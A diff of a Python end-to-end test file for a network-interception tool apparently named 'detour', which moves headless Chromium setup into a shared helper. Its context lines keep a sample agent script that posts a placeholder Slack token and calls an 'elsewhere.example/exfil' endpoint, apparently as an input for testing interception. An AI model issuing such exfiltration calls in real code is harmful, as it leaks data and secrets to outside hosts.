@@ -11,11 +11,10 @@ from pathlib import Path
 import pytest
 import requests
 
+from tests.e2e.browser import headless_chromium, needs_chromium
 from tests.e2e.test_cli import DETOUR, Server
 
-CHROMIUM, CHROMEDRIVER = shutil.which("chromium"), shutil.which("chromedriver")
-pytestmark = pytest.mark.skipif(not (CHROMIUM and CHROMEDRIVER),
-                                reason="needs Debian's chromium and chromium-driver (detour doctor --install)")
+pytestmark = needs_chromium
 SCREENSHOT = Path(__file__).parents[2] / "docs" / "live-view.png"
 AGENT = """import requests
 requests.post("https://slack.com/api/chat.postMessage", headers={"Authorization": "Bearer xoxb-LIVE-SECRET"},
@@ -25,24 +24,9 @@ requests.get("https://elsewhere.example/exfil")
 
 
 @pytest.fixture
-def browser(monkeypatch):
-    from selenium import webdriver
-    from selenium.webdriver.chrome.service import Service
-
-    monkeypatch.setenv("SE_OFFLINE", "true")  # Selenium Manager: never look anything up
-    options = webdriver.ChromeOptions()
-    options.binary_location = CHROMIUM
-    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--window-size=1400,900",
-                "--disable-background-networking", "--disable-component-update", "--disable-sync",
-                "--no-first-run", "--disable-default-apps",
-                # Every name but loopback fails to resolve: the browser can reach nothing else.
-                "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1"):
-        options.add_argument(arg)
-    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
-    try:
+def browser():
+    with headless_chromium() as driver:
         yield driver
-    finally:
-        driver.quit()
 
 
 def detour(home: Path, *args: str) -> str:
